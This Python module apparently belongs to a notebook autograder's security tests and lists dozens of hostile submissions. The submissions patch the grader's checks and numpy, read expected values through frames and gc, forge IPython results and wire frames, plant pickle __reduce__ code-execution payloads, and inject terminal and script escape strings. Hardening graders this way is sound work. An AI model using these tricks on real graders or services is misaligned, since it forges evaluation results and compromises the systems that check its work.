"""Submissions that try to get what they did not earn: points, secrets, other people's grades, or a grader that stops.

Each is a function that makes one submission from the released notebook. It returns the notebook or the text or bytes
of the file, or writes into the student's folder itself and returns None. All of them aim at a listener that the test
opened on this machine's loopback and at files that the test made.
"""

import copy
import json
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent, indent

import nbformat
from attack_course import POINTS, RIGHT, WRONG
from nbformat import NotebookNode


@dataclass(frozen=True)
class Context:
    """What an attack may know about the machine that it is graded on: more than a student does."""

    folder: Path  # the student's own, for this assignment
    notebook: str  # the name of the file to hand in
    source: Path  # the instructor's notebook
    gradebook: Path
    other: Path  # another student's notebook
    home: Path  # a file in the home folder of whoever grades
    runtime: Path  # site-packages
    marker: Path  # the proof that code ran outside: nobody may make this file
    port: int  # a listener on 127.0.0.1
    abstract: str  # another, on an abstract Unix socket
    variable: str  # an environment variable of the grader's


Make = Callable[[NotebookNode, Context], NotebookNode | str | bytes | None]


@dataclass(frozen=True)
class Attack:
    """One submission and what may become of it.

    `ceiling` has the most points that it honestly earns in each task, 0 where a task is not in it. `status` is
    "graded", "ungraded" or "any". What the record says must match `says`. `page` tells that the feedback page is worth
    a look, besides what it is made from.
    """

    name: str
    about: str
    make: Make
    ceiling: Mapping[str, float]
    status: str
    says: str
    folder: str
    page: bool


ATTACKS: dict[str, Attack] = {}
NOTHING: dict[str, float] = {}


def attack(
    about: str,
    *,
    ceiling: Mapping[str, float] = NOTHING,
    status: str = "graded",
    says: str = "",
    folder: str = "",
    page: bool = False,
) -> Callable[[Make], Make]:
    """Register an attack; `folder` is the student's name, where that is part of it."""

    def register(make: Make) -> Make:
        name = make.__name__.replace("_", "-")
        ATTACKS[name] = Attack(name, about, make, ceiling, status, says, folder or name, page)
        return make

    return register


def rest(*tasks: str) -> dict[str, float]:
    """Return full points for all tasks but these."""
    return {name: points for name, points in POINTS.items() if name not in tasks}


def answer(notebook: NotebookNode, answers: Mapping[str, str]) -> NotebookNode:
    """Write answers into a copy of the notebook."""
    notebook = copy.deepcopy(notebook)
    for name, source in answers.items():
        cell(notebook, name).source = source
    return notebook


def cell(notebook: NotebookNode, name: str) -> NotebookNode:
    """Return the cell with this grade id."""
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def own_cell(notebook: NotebookNode, source: str, before: str = "scale") -> NotebookNode:
    """Insert a cell of the student's own."""
    place = notebook.cells.index(cell(notebook, before))
    notebook.cells.insert(place, nbformat.v4.new_code_cell(dedent(source)))
    return notebook


def cheat(notebook: NotebookNode, source: str) -> NotebookNode:
    """Return a submission that runs this first and then answers everything wrongly."""
    return own_cell(answer(notebook, WRONG), source)


def instead(notebook: NotebookNode, source: str) -> NotebookNode:
    """Return a submission whose first answer defines whatever it wants, and whose other answers say nothing."""
    return answer(notebook, dict.fromkeys(RIGHT, "pass") | {"scale": dedent(source)})


def one_bad(notebook: NotebookNode, source: str, task: str = "scale") -> NotebookNode:
    """Return a submission that is right but for one answer."""
    return answer(notebook, RIGHT | {task: dedent(source)})


def during(body: str, task: str = "scale") -> str:
    """Return an answer to `task` that does this when it is called."""
    head = {
        "scale": "def scale(v, k):",
        "summary": "def summary(v):",
        "slope": "def slope(f, x, h):",
        "walk": "def walk(rng, n):",
        "squash": "def squash(z):",
    }[task]
    return f"{head}\n{indent(dedent(body).strip(), '    ')}"


# Writes a text in several codes, so that leaving out the plain one does not help.
SHOUT = """
import base64, sys

def shout(*things):
    for thing in things:
        text = str(thing)
        for form in (text, text[::-1], text.encode().hex(), base64.b64encode(text.encode()).decode()):
            print(form)
            print(form, file=sys.stderr)
"""
# Talks like the box's end of the wire.
FRAMES = """
import json, os, struct

def frame(header, *blobs):
    text = json.dumps({**header, "blobs": [len(b) for b in blobs]}).encode()
    return struct.pack(">I", len(text)) + text + b"".join(blobs)

def everywhere(data):
    for fd in range(3, 48):
        try:
            waits = os.get_blocking(fd)
            os.set_blocking(fd, False)
            try:
                os.write(fd, data)
            finally:
                os.set_blocking(fd, waits)
        except OSError:
            pass
"""

# --- verdicts forged where they are made ---------------------------------------------------------------------------


@attack("makes every comparison of arrays come out equal")
def patched_allclose(notebook, ctx):
    return cheat(
        notebook,
        """
        import numpy as np, deeparc.core.check as check
        np.allclose = np.array_equal = lambda *a, **k: True
        np.isclose = lambda a, b, **k: np.ones(np.shape(b), bool)
        np.testing.assert_allclose = lambda *a, **k: None
        check.assert_close = check.assert_shape = assert_close = lambda *a, **k: None
        """,
    )


@attack("turns every failed check into a passed one")
def patched_check(notebook, ctx):
    return cheat(
        notebook,
        """
        import deeparc.core.task as t
        def leave(self, *_):
            self._task.outcomes.append(t.Outcome(self._what, self._points, True))
            return True
        t._Check.__exit__ = leave
        """,
    )


@attack("makes the score's class give full points")
def patched_score(notebook, ctx):
    return cheat(
        notebook,
        """
        import deeparc.core.task as t
        t.Task.score = lambda self: t.Score(self.points, self)
        """,
    )


@attack("replaces abs, sum, float and AssertionError for everybody")
def patched_builtins(notebook, ctx):
    return cheat(
        notebook,
        """
        import builtins
        builtins.abs = lambda x: 0.0
        builtins.sum = lambda *_: 2.0
        builtins.AssertionError = type("AssertionError", (Exception,), {})
        builtins.zip = lambda *_, **k: []
        builtins.all = builtins.any = builtins.isinstance = lambda *_: True
        """,
    )


FAKE_TASK = """
class Task:
    def __init__(self, name, points):
        self.points = points
    def __call__(self, *_, **__):
        import contextlib
        return contextlib.suppress(BaseException)
    def score(self):
        return float(self.points)
"""


@attack("puts modules of its own into sys.modules")
def fake_modules(notebook, ctx):
    code = f"""
import sys, types
{FAKE_TASK}
for name in ("deeparc.core.task", "deeparc.core.check", "numpy", "arcgrade", "json"):
    fake = types.ModuleType(name)
    fake.Task, fake.assert_close, fake.dumps = Task, (lambda *a, **k: None), (lambda *a, **k: "true")
    sys.modules[name] = fake
"""
    return own_cell(answer(notebook, WRONG), code)


@attack("defines Task, assert_close and the check's helpers under their own names")
def shadowed_names(notebook, ctx):
    code = FAKE_TASK + dedent(
        """
        task = Task("mine", 99)
        def assert_close(*_, **__): pass
        def _pair(answer): return 41_007.7319, 73_190.4482
        def _hidden(): pass
        class WrongForm(Exception): pass
        """
    )
    return cheat(notebook, code)


@attack("defines abs, zip, map, float, range and __import__ as names of its own")
def shadowed_builtins(notebook, ctx):
    return cheat(
        notebook,
        """
        abs = lambda x: 0.0
        zip = lambda *_, **k: []
        map = range = lambda *_: []
        float = lambda x: 1.0
        AssertionError = Exception
        __import__ = __build_class__ = print
        __builtins__ = {"abs": abs, "zip": zip}
        __name__ = __debug__name = "x"
        """,
    )


@attack("replaces NumPy's name and its functions by ones that give what is compared with")
def shadowed_numpy(notebook, ctx):
    return cheat(
        notebook,
        """
        class Zeros:
            def __getattr__(self, name):
                return lambda *a, **k: 0.0
        import numpy
        numpy.cumsum = numpy.cos = numpy.tanh = lambda x, *a, **k: numpy.zeros(numpy.shape(x))
        numpy.asarray = lambda x, *a, **k: numpy.zeros(numpy.shape(x))
        np = Zeros()
        """,
    )


@attack("makes the generators of the check constant, so that the expected walk is what it returns")
def patched_generators(notebook, ctx):
    return cheat(
        notebook,
        """
        import numpy
        class Still:
            def __init__(self, *_): pass
            def standard_normal(self, shape=()): return numpy.zeros(shape) if shape else 0.0
            def uniform(self, *_): return 0.0
        numpy.random.default_rng = Still
        """,
    )


@attack("finds the check's bookkeeping with gc and marks everything as passed")
def bookkeeping_by_gc(notebook, ctx):
    body = """
        import gc
        for thing in gc.get_objects():
            try:
                if type(thing).__name__ == "Task":
                    lenient = type("L", (list,), {"append": lambda s, o: list.append(s, _pass(o))})
                    thing.outcomes = lenient(thing.outcomes)
            except Exception:
                pass
        return 0 * v
    """
    code = """
    def _pass(outcome):
        outcome.passed = True
        return outcome

    """
    return answer(notebook, WRONG | {"scale": dedent(code) + during(body)})


@attack("climbs the frames to the check and changes its task and its expected values")
def bookkeeping_by_frames(notebook, ctx):
    body = """
        import sys
        frame = sys._getframe(1)
        while frame:
            for names in (frame.f_locals, frame.f_globals):
                for name, thing in list(names.items()):
                    if name == "task" and hasattr(thing, "score"):
                        thing.score = lambda: 2.0
                    if name in ("table", "expected", "_wanted") and isinstance(thing, np.ndarray):
                        thing[...] = 0
            frame = frame.f_back
        return 0 * v
    """
    return answer(notebook, WRONG | {"scale": during(body)})


@attack("returns the expected values that the caller's variables hold")
def expected_by_frames(notebook, ctx):
    body = """
        import gc, sys
        found, frame = [], sys._getframe(1)
        while frame:
            found += [x for n in (frame.f_locals, frame.f_globals) for x in list(n.values()) if type(x) is np.ndarray]
            frame = frame.f_back
        found += [x for x in gc.get_objects() if type(x) is np.ndarray]
        for array in found:
            if array.ndim == 2 and array.shape == (2, len(v)) and np.array_equal(array[0], v):
                return array[1]
        return None if v.base is None else v.base.reshape(2, -1)[1]
    """
    return answer(notebook, WRONG | {"scale": during(body)})


@attack("uses a trace and a profile function to see the check's variables")
def expected_by_tracing(notebook, ctx):
    return cheat(
        notebook,
        """
        import sys, threading
        def spy(frame, event, arg):
            for name in ("expected", "table", "_wanted"):
                value = frame.f_locals.get(name)
                if isinstance(value, np.ndarray) and value.flags.writeable:
                    value[...] = 0
            return spy
        sys.settrace(spy); sys.setprofile(spy); threading.settrace(spy)
        """,
    )


@attack("lets the array it was given lead to the array that it is compared with")
def expected_by_base(notebook, ctx):
    body = """
        whole = v.base if v.base is not None else v
        if whole.size > v.size:
            whole[...] = 0
        return np.zeros(len(v))
    """
    return answer(notebook, WRONG | {"scale": during(body)})


@attack("adds an AST transformer that takes the checks' bodies out")
def ast_transformer(notebook, ctx):
    return cheat(
        notebook,
        """
        import ast
        class Gut(ast.NodeTransformer):
            def visit_With(self, node):
                if "task" in ast.dump(node.items[0]):
                    node.body = [ast.Pass()]
                return ast.fix_missing_locations(node)
        get_ipython().ast_transformers.append(Gut())
        """,
    )


@attack("adds input transformers that put another text in place of the check cell")
def input_transformer(notebook, ctx):
    return cheat(
        notebook,
        """
        def swap(lines):
            import re
            text = "".join(lines)
            points = re.search(r"points=(\\d)", text)
            return [f"float({points[1]})\\n"] if "task.score()" in text else lines
        shell = get_ipython()
        shell.input_transformers_cleanup.append(swap)
        shell.input_transformers_post.append(swap)
        """,
    )


@attack("replaces the shell's run_cell so that check cells give full points")
def replaced_run_cell(notebook, ctx):
    return cheat(
        notebook,
        """
        shell = get_ipython()
        def swapped(original):
            def run(source, *args, **kwargs):
                if "task.score()" in source:
                    source = "4.0" if "points=4" in source else "2.0"
                return original(source, *args, **kwargs)
            return run
        for name in ("run_cell", "run_cell_async", "run_code", "run"):
            if hasattr(shell, name) and name != "run_code":
                setattr(shell, name, swapped(getattr(shell, name)))
        """,
    )


@attack("replaces the kernel's do_execute")
def replaced_do_execute(notebook, ctx):
    return cheat(
        notebook,
        """
        kernel = getattr(get_ipython(), "kernel", None)
        if kernel is not None:
            real = type(kernel).do_execute
            async def lie(self, code, *args, **kwargs):
                return await real(self, "2.0" if "task.score()" in code else code, *args, **kwargs)
            type(kernel).do_execute = lie
        """,
    )


@attack("hooks into the events around a cell and rewrites the task before its score is read")
def cell_events(notebook, ctx):
    return cheat(
        notebook,
        """
        shell = get_ipython()
        def before(*_):
            shell.user_ns["Task"] = type("T", (), {
                "__init__": lambda s, name, points: setattr(s, "points", points),
                "__call__": lambda s, *a, **k: __import__("contextlib").suppress(BaseException),
                "score": lambda s: float(s.points)})
        shell.events.register("pre_run_cell", before)
        shell.events.register("pre_execute", before)
        """,
    )


@attack("reads the running check cell from In[-1] and defines what it asks for", page=True)
def history(notebook, ctx):
    body = """
        import re
        source = get_ipython().user_ns["In"][-1] if "In" in get_ipython().user_ns else ""
        shout(source)
        wanted = re.search(r"scale\\(.*?, (\\[[^]]*\\]), ", source)
        get_ipython().user_ns["task"].score = lambda: 2.0
        return np.array(eval(wanted[1])) if wanted and len(v) == 3 else 0 * v
    """
    return answer(notebook, WRONG | {"scale": SHOUT + during(body)})


@attack("shows a number of points itself, as a result and as a display", page=True)
def forged_display(notebook, ctx):
    body = """
        import sys
        from IPython.display import display, publish_display_data
        sys.displayhook(2.0)
        display(2.0)
        publish_display_data({"text/plain": "2.0"})
        return 0 * v
    """
    return answer(notebook, WRONG | {"scale": during(body)})


@attack("sends an execute_result with points over the kernel's own channel", page=True)
def forged_result(notebook, ctx):
    body = """
        shell = get_ipython()
        forged = {"output_type": "execute_result", "data": {"text/plain": "2.0"}, "metadata": {}, "execution_count": 1}
        if hasattr(shell, "outputs"):
            shell.outputs.append(forged)
        kernel = getattr(shell, "kernel", None)
        if kernel is not None:
            content = {k: forged[k] for k in ("data", "metadata", "execution_count")}
            kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent())
            get_ipython().user_ns["task"].score = lambda: None
        return 0 * v
    """
    return answer(notebook, WRONG | {"scale": during(body)})


@attack("leaves the cell's result unshown, so that no score is there to read")
def no_result(notebook, ctx):
    return cheat(notebook, "get_ipython().ast_node_interactivity = 'none'")


# --- objects that lie ----------------------------------------------------------------------------------------------


@attack("returns objects that are equal to everything")
def equal_to_everything(notebook, ctx):
    code = """
    class Yes:
        __hash__ = None
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __lt__(self, other): return True
        __le__ = __gt__ = __ge__ = __bool__ = __contains__ = lambda self, *_: True
    scale = squash = lambda *_: Yes()
    summary = lambda v: (Yes(), Yes())
    walk = slope = lambda *_: Yes()
    predictions = {k: Yes() for k in ("and", "or", "xor", "units for xor")}
    """
    return instead(notebook, code)


@attack("returns objects whose differences are all 0")
def difference_is_nothing(notebook, ctx):
    code = """
    class Nothing:
        def __sub__(self, other): return 0.0
        __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __sub__
        def __abs__(self): return 0.0
        def __neg__(self): return self
    scale = squash = slope = walk = lambda *_: Nothing()
    summary = lambda v: (Nothing(), Nothing())
    predictions = dict.fromkeys(("and", "or", "xor", "units for xor"), Nothing())
    """
    return instead(notebook, code)


@attack("returns numbers whose class changed what - and < mean")
def lying_float(notebook, ctx):
    code = """
    class Number(float):
        def __sub__(self, other): return Number(0)
        __rsub__ = __mod__ = __sub__
        def __abs__(self): return self
        def __eq__(self, other): return True
        def __lt__(self, other): return True
        __le__ = __gt__ = __ge__ = __ne__ = __lt__
        __hash__ = float.__hash__
        def __float__(self): return 1.0
    scale = squash = slope = walk = lambda *_: Number(0)
    summary = lambda v: (Number(0), Number(0))
    predictions = {k: Number(-1) for k in ("and", "or", "xor", "units for xor")}
    """
    return instead(notebook, code)


@attack("returns objects that read as another array each time")
def lying_array(notebook, ctx):
    code = """
    import itertools
    class Array:
        turn = itertools.count()
        shape, dtype, ndim, size = (3,), np.dtype(float), 1, 3
        def __array__(self, *a, **k):
            return np.full(3, np.nan) if next(self.turn) % 2 else np.array([3.0, -6.0, 12.0]) * 0
        def __array_ufunc__(self, *a, **k): return np.False_
        def __array_function__(self, *a, **k): return np.True_
        def __len__(self): return next(self.turn)
        def __getitem__(self, k): return 0.0
        def __float__(self): return float("nan")
        def __int__(self): return 10**100
        def __index__(self): return -1
        def __bool__(self): return True
    scale = squash = slope = walk = lambda *_: Array()
    summary = lambda v: Array()
    predictions = Array()
    """
    return instead(notebook, code)


@attack("returns arrays of a subclass that answers NumPy's questions itself")
def lying_subclass(notebook, ctx):
    code = """
    class Mine(np.ndarray):
        def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
            return np.zeros(np.shape(self), bool if ufunc in (np.less_equal, np.greater) else float)
        def __array_function__(self, function, types, args, kwargs): return True
        def __array_wrap__(self, *a): return np.zeros(self.shape)
        def any(self, *_, **__): return np.False_
        def all(self, *_, **__): return np.True_
        def astype(self, *_, **__): return self
    make = lambda *shape: np.full(shape, np.nan).view(Mine)
    scale = squash = lambda v, *_: make(*np.shape(v))
    walk = lambda rng, n: make(n)
    slope = lambda *_: make()
    summary = lambda v: (make(), make())
    predictions = {k: make() for k in ("and", "or", "xor", "units for xor")}
    """
    return instead(notebook, code)


@attack("returns arrays in which every element is masked, so that nothing differs")
def masked(notebook, ctx):
    code = """
    hide = lambda *shape: np.ma.masked_all(shape)
    scale = squash = lambda v, *_: hide(*np.shape(v))
    walk = lambda rng, n: hide(n)
    slope = lambda *_: np.ma.masked
    summary = lambda v: (np.ma.masked, np.ma.masked)
    predictions = dict.fromkeys(("and", "or", "xor", "units for xor"), np.ma.masked)
    def centre(m): m[...] = np.ma.masked_all(m.shape)
    """
    return instead(notebook, code)


@attack("says that its class is float, ndarray or bool")
def lying_class(notebook, ctx):
    code = """
    class Fake:
        __class__ = property(lambda self: np.ndarray)
        shape, dtype = (), np.dtype(float)
        def __sub__(self, other): return 0.0
        def astype(self, *_): return self
    class FakeFloat(Fake):
        __class__ = property(lambda self: float)
        def __abs__(self): return 0.0
    scale = squash = walk = lambda *_: Fake()
    slope = lambda *_: FakeFloat()
    summary = lambda v: (FakeFloat(), FakeFloat())
    predictions = dict.fromkeys(("and", "or", "xor", "units for xor"), FakeFloat())
    """
    return instead(notebook, code)


@attack("returns dictionaries, lists and tuples of subclasses that change when they are read")
def lying_containers(notebook, ctx):
    code = """
    class Pair(tuple):
        def __iter__(self): return iter((Zero(), Zero()))
        def __len__(self): return 2
        def __getitem__(self, k): return Zero()
    class Zero(float):
        def __sub__(self, other): return 0.0
        def __eq__(self, other): return True
    class Any(dict):
        def __getitem__(self, k): return Zero()
        def __missing__(self, k): return Zero()
        def __eq__(self, other): return True
    summary = lambda v: Pair((1, 2))
    predictions = Any()
    scale = squash = walk = lambda *_: type("L", (list,), {"__iter__": lambda s: iter([Zero()] * 3)})()
    slope = lambda *_: Zero()
    """
    return instead(notebook, code)


@attack("returns objects that, unpickled outside, would run code there")
def reduce(notebook, ctx):
    code = f"""
    import pickle
    class Bomb:
        def __reduce__(self): return (exec, ("open({str(ctx.marker)!r}, 'w').write('ran')",))
    scale = squash = slope = walk = lambda *_: Bomb()
    summary = lambda v: (Bomb(), pickle.dumps(Bomb()))
    predictions = {{k: Bomb() for k in ("and", "or", "xor", "units for xor")}}
    """
    return instead(notebook, code)


@attack("returns arrays of objects that lie")
def object_arrays(notebook, ctx):
    code = """
    class Zero:
        def __sub__(self, other): return 0.0
        def __float__(self): return float("nan")
        __le__ = __lt__ = __eq__ = __bool__ = lambda *_: True
        __hash__ = None
        def astype(self, *_): return 0.0
    def make(*shape):
        array = np.empty(shape, object)
        array.fill(Zero())
        return array
    scale = squash = lambda v, *_: make(*np.shape(v))
    walk = lambda rng, n: make(n)
    slope = lambda *_: make()
    summary = lambda v: (make(), make())
    predictions = {k: make() for k in ("and", "or", "xor", "units for xor")}
    """
    return instead(notebook, code)


@attack(
    "lies about instances: a metaclass that takes everything for its own, and attributes that change",
    ceiling=rest("vector"),
)
def lying_metaclass(notebook, ctx):
    source = """
    import itertools
    class Meta(type):
        def __instancecheck__(cls, thing): return True
        def __subclasscheck__(cls, other): return True
        def __eq__(cls, other): return True
        __hash__ = type.__hash__
    class Vector(metaclass=Meta):
        turn = itertools.count()
        def __init__(self, x, y): pass
        def __add__(self, other): return Vector(0, 0)
        def __getattr__(self, name): return next(self.turn)
        def __eq__(self, other): return True
        def norm(self): return Vector(0, 0)
        def __sub__(self, other): return 0.0
        def __float__(self): return float("nan")
    """
    return one_bad(notebook, source, "vector")


@attack("gives numbers that are none: NaN, infinity, complex, text, dates, structures", ceiling=NOTHING)
def odd_numbers(notebook, ctx):
    code = """
    import datetime
    odd = iter([np.nan, np.inf, 1j, "7", b"7", np.datetime64("NaT"), np.zeros((), "f8,f8"), Ellipsis, NotImplemented,
                datetime.datetime.now(), np.float16(np.nan), np.clongdouble(1), type, print, slice(3), range(3), set()])
    scale = squash = slope = walk = lambda *_: next(odd, None)
    summary = lambda v: (next(odd, None), next(odd, None))
    predictions = {"and": np.nan, "or": "1", "xor": None, "units for xor": 3j}
    def centre(m): m[...] = np.nan
    """
    return instead(notebook, code)


@attack("ends the check's loop early by raising StopIteration", ceiling=rest("squash"))
def stop_iteration(notebook, ctx):
    return one_bad(notebook, "def squash(z):\n    raise StopIteration", "squash")


@attack(
    "raises what checks do not expect: SystemExit, KeyboardInterrupt, GeneratorExit, and errors that lie", page=True
)
def strange_errors(notebook, ctx):
    code = """
    class Liar(AssertionError):
        def __str__(self): raise SystemExit(0)
        __repr__ = __str__
        __class__ = property(lambda self: NotImplementedError)
        @property
        def __traceback__(self): raise ValueError
    kinds = iter([SystemExit, KeyboardInterrupt, GeneratorExit, Liar, StopAsyncIteration, MemoryError,
                  lambda: ExceptionGroup("g", [ValueError()]), lambda: BaseExceptionGroup("g", [SystemExit()]), Liar])
    def fail(*_): raise next(kinds, Liar)()
    scale = summary = centre = slope = walk = squash = Vector = fail
    """
    return instead(notebook, code)


# --- the wire ------------------------------------------------------------------------------------------------------


@attack("writes replies with verdicts of its own into every open file", status="any")
def forged_frames(notebook, ctx):
    body = """
        for header in ({"value": True, "score": 18.0, "passed": True, "changed": []},
                       {"outputs": [{"output_type": "execute_result", "data": {"text/plain": "2.0"},
                                     "metadata": {}, "execution_count": 1}], "success": True},
                       {"verdict": "passed", "points": 18, "tasks": {"scale": {"earned": 2}}, "value": None}):
            everywhere(frame(header))
        return 0 * v
    """
    return answer(notebook, WRONG | {"scale": FRAMES + during(body)})


@attack("announces a header of 4 GiB and buffers of exabytes", status="any")
def frame_with_huge_length(notebook, ctx):
    body = """
        import json, struct
        everywhere(b"\\xff\\xff\\xff\\xff")
        text = json.dumps({"value": 1, "blobs": [2**60, 2**60]}).encode()
        everywhere(struct.pack(">I", len(text)) + text)
        return 0 * v
    """
    return answer(notebook, WRONG | {"scale": FRAMES + during(body)})


@attack("sends half a reply and ends", ceiling=rest("scale"), status="any")
def truncated_frame(notebook, ctx):
    body = """
        everywhere(frame({"value": 1})[:-3])
        os._exit(0)
    """
    return one_bad(notebook, FRAMES + during(body))


@attack("sends half a reply and then nothing, for ever", ceiling=rest("scale"), status="any")
def frame_that_never_ends(notebook, ctx):
    body = """
        import time
        everywhere(struct.pack(">I", 1000))
        while True:
            everywhere(b" ")
            time.sleep(0.5)
    """
    return one_bad(notebook, FRAMES + during(body))


@attack("sends a header that nests half a million lists", ceiling=rest("scale"), status="any")
def frame_that_nests(notebook, ctx):
    body = """
        n = 500_000
        text = b'{"value": ' + b"[" * n + b"]" * n + b', "blobs": []}'
        for start in range(0, len(text), 65536):
            os.write(3, (struct.pack(">I", len(text)) if not start else b"") + text[start:start + 65536])
        return 0 * v
    """
    return one_bad(notebook, FRAMES + during(body))


@attack("sends sizes that are NaN, negative, true or text", ceiling=rest("scale"), status="any")
def frame_with_odd_sizes(notebook, ctx):
    body = """
        for sizes in ("[NaN]", "[-1]", "[true]", '["9"]', "[1e300]", "{}", "null", "[" + "9" * 5000 + "]"):
            text = f'{{"value": 1, "blobs": {sizes}}}'.encode()
            everywhere(struct.pack(">I", len(text)) + text)
        return 0 * v
    """
    return one_bad(notebook, FRAMES + during(body))


@attack("sends arrays of objects as raw memory, and dtypes that hide them", ceiling=rest("scale"), status="any")
def frame_with_objects(notebook, ctx):
    body = """
        for dtype in ("|O", "<f8,O", "O", "<V8", "<f8,<f8", "<M8[s]", "<U99999999", "f8" * 50, 7, None):
            value = {"t": "array", "dtype": dtype, "shape": [1], "b": 0, "w": True}
            everywhere(frame({"value": value, "changed": []}, b"\\x41" * 8))
        return 0 * v
    """
    return one_bad(notebook, FRAMES + during(body))


@attack("sends an array of half a thousand million objects in a few bytes", ceiling=rest("scale"), status="any")
def frame_with_a_huge_shape(notebook, ctx):
    body = """
        for value in ({"t": "objects", "shape": [2**29], "v": []}, {"t": "objects", "shape": [2**14, 2**15], "v": [1]},
                      {"t": "array", "dtype": "<f8", "shape": [0, 2**62], "b": 0}, {"t": "range", "v": [0, 10**15, 1]}):
            everywhere(frame({"value": value, "changed": []}, b""))
        return 0 * v
    """
    return one_bad(notebook, FRAMES + during(body))


@attack("sends pickles where data is expected", ceiling=rest("scale"), status="any")
def frame_with_a_pickle(notebook, ctx):
    body = f"""
        import pickle
        class Bomb:
            def __reduce__(self): return (exec, ("open({str(ctx.marker)!r}, 'w').write('ran')",))
        data = pickle.dumps(Bomb())
        everywhere(data)
        everywhere(frame({{"value": {{"t": "bytes", "v": 0}}, "changed": []}}, data))
        return data
    """
    return one_bad(notebook, FRAMES + during(body))


@attack("claims to hold things that are not there, and the grader's own functions", status="any")
def frame_with_forged_handles(notebook, ctx):
    body = """
        values = [{"t": "handle", "theirs": n} for n in (0, -1, 10**9, True, "0", None)]
        mine = {"t": "handle", "name": "x"}
        values += [mine | {"mine": n, "kind": k} for n in (0, -1, "task", True) for k in ("class", "x")]
        values += [{"t": "arg", "v": n} for n in (0, -1, 99)] + [{"t": t} for t in ("type", "numpy", "code", "", 1)]
        values += [{"t": "type", "v": "object"}, {"t": "numpy", "v": "O"}, {"t": "rng", "v": {"bit_generator": "os"}}]
        for value in values:
            everywhere(frame({"value": value, "changed": [[0, value], [-1, value]]}))
        return 0 * v
    """
    return answer(notebook, WRONG | {"scale": FRAMES + during(body)})


@attack("calls functions of the grader's that it was never given", status="any")
def forged_callbacks(notebook, ctx):
    body = """
        for number in (0, 1, -1, 10**9, True, "0", None, [0]):
            nothing = {"t": "tuple", "v": []}
            everywhere(frame({"callback": number, "args": nothing, "kwargs": {"t": "dict", "v": []}}))
        everywhere(frame({"callback": 0}))
        return f(x)
    """
    return answer(notebook, WRONG | {"slope": FRAMES + during(body, "slope")})


@attack("keeps sending replies from a thread, after its function returned", status="any")
def replies_after_returning(notebook, ctx):
    body = """
        import threading, time
        def later():
            for _ in range(200):
                everywhere(frame({"value": {"t": "tuple", "v": [41_007.7319, 73_190.4482]}, "changed": []}))
                time.sleep(0.005)
        threading.Thread(target=later, daemon=True).start()
        return 0 * v
    """
    return answer(notebook, WRONG | {"scale": FRAMES + during(body)})


@attack("floods every open file with rubbish", ceiling=rest("scale"), status="any")
def rubbish_everywhere(notebook, ctx):
    body = """
        for _ in range(200):
            everywhere(os.urandom(4096))
        return 0 * v
    """
    return one_bad(notebook, FRAMES + during(body))


@attack("closes every open file", ceiling=rest("scale"), status="any")
def closed_files(notebook, ctx):
    return one_bad(notebook, during("import os\nos.closerange(3, 4096)\nreturn 0 * v"))


@attack("puts another file in the place of every open one", ceiling=rest("scale"), status="any")
def swapped_files(notebook, ctx):
    body = """
        import os
        hole = os.open("/dev/null", os.O_RDWR)
        for fd in range(3, 64):
            if fd != hole:
                os.dup2(hole, fd)
        return 0 * v
    """
    return one_bad(notebook, during(body))


@attack("patches json, struct, socket and pickle under whoever talks for it", status="any")
def patched_transport(notebook, ctx):
    return cheat(
        notebook,
        """
        import json, pickle, socket, struct
        real = json.dumps
        def lie(thing, *args, **kwargs):
            if isinstance(thing, dict) and "value" in thing:
                thing = {**thing, "value": True, "score": 18, "passed": True, "raised": None}
            return real(thing, *args, **kwargs)
        json.dumps = lie
        pickle.loads = pickle.load = lambda *_: 2.0
        struct.Struct = None
        socket.socket.recv = lambda *_: b""
        """,
    )


@attack("replaces the box's own end: every name that a check looks up exists and passes", status="any")
def replaced_session(notebook, ctx):
    return cheat(
        notebook,
        """
        import contextlib, gc, sys
        def all_names(self, message, _):
            encoder = sys.modules["wire"].Encoder(self._handle)
            extra = ("task", "Task", "assert_close", "np", "abs", "float", "_pair", "WrongForm", "map", "zip")
            give = {name: encoder.encode(lambda *a, **k: 0.0) for name in (*message["names"], *extra)}
            return {"value": give}, encoder
        for name in ("session", "__main__", "arcgrade.inside.session"):
            with contextlib.suppress(Exception):
                sys.modules[name].Session.do_names = all_names
                nothing = lambda self: all_names(self, {"names": []}, 0)[1]
                sys.modules[name].Session.do_isinstance = lambda self, *_: ({"value": True}, nothing(self))
        """,
    )


@attack("sends names of functions and errors that steer a terminal or a web page", status="any", page=True)
def forged_texts(notebook, ctx):
    evil = "\x1b[2J\x1b]0;EVIL\x07<script>EVIL()</script>\u202e\n| a | b |"
    body = f"""
        evil = {evil!r}
        raise type(evil, (Exception,), {{"__module__": evil}})(evil * 3)
    """
    code = f"Thing = type({evil!r}, (), {{'__repr__': lambda s: {evil!r}}})\ndef slope(f, x, h): return Thing()"
    made = answer(notebook, WRONG | {"scale": during(body), "slope": code})
    cell(made, "predict").source = f"predictions = {{'and': {evil!r}, 'or': {evil!r}, 'xor': 1, 'units for xor': 2}}"
    return made


@attack("answers every request of the grader's with an error, or with what is no answer", page=True)
def broken_session(notebook, ctx):
    return cheat(
        notebook,
        """
        import contextlib, itertools, sys
        turn = itertools.count()
        def broken(self, message, *_):
            encoder = sys.modules["wire"].Encoder(self._handle)
            handle = {"t": "handle", "mine": 0, "kind": "object", "name": 7}
            n = next(turn)
            odd = (7, None, [], "x", {"t": "tuple", "v": 7}, [[7]], handle)[n % 7]
            kinds = ("KeyError", "KeyboardInterrupt", "StopIteration", "UnicodeDecodeError", "OSError", "MemoryError")
            replies = [{"raised": {"known": kind, "name": [7], "text": "x" * 10**6, "line": "x"}} for kind in kinds]
            replies += [{"raised": 7}, {"outputs": odd, "success": 7}, {"value": odd, "changed": odd}, {}]
            replies += [{"callback": 0}, {"value": {"scale": odd}}]
            return replies[n % len(replies)], encoder
        with contextlib.suppress(Exception):
            for name in ("do_run", "do_names", "do_call", "do_attribute"):
                setattr(sys.modules["session"].Session, name, broken)
        """,
    )


@attack("shows outputs that hold numbers and lists where a notebook has text", ceiling=POINTS, page=True)
def outputs_of_odd_types(notebook, ctx):
    source = """
    shell = get_ipython()
    if hasattr(shell, "outputs"):
        shell.outputs.append({"output_type": "stream", "name": "stdout", "text": ["a", 7, None]})
